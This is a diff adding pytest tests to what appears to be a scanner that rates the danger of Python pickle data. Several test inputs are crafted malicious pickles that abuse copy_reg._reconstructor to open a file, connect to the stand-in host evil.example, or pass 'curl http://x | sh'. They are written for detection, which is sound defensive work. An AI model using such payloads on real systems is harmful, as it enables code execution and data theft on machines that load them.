@@ -232,3 +232,21 @@ def test_one_call_among_very_many_is_found() -> None:
     numbers = [b"M" + n.to_bytes(2, "little") + b"\x85" for n in range(600)]
     assert worst(calls("some\nthing", numbers)) is Severity.MEDIUM
     assert worst(calls("some\nthing", [*numbers, b"\x8c\6/bin/x\x85"])) is Severity.HIGH
+
+
+@pytest.mark.parametrize(
+    "program",
+    [
+        b"ccopy_reg\n_reconstructor\n(cargparse\nNamespace\nclogging\nFileHandler\nV/home/u/x\ntR.",
+        b"ccopy_reg\n_reconstructor\n(cargparse\nNamespace\ncsmtplib\nSMTP\nVevil.example\ntR.",
+        b"ccopy_reg\n_reconstructor\n(cx.y\nRunner\ncx.y\nRunner\nVcurl http://x | sh\ntR.",
+    ],
+    ids=["writes", "connects", "unknown with a command"],
+)
+def test_the_base_that_a_reconstructor_calls_is_judged(program: bytes) -> None:
+    assert worst(program) >= Severity.HIGH
+
+
+def test_a_reconstructor_with_a_plain_base_is_a_rebuild() -> None:
+    program = b"ccopy_reg\n_reconstructor\n(cmymodel\nNet\nc__builtin__\ndict\n(dtR."
+    assert worst(program) <= Severity.LOW
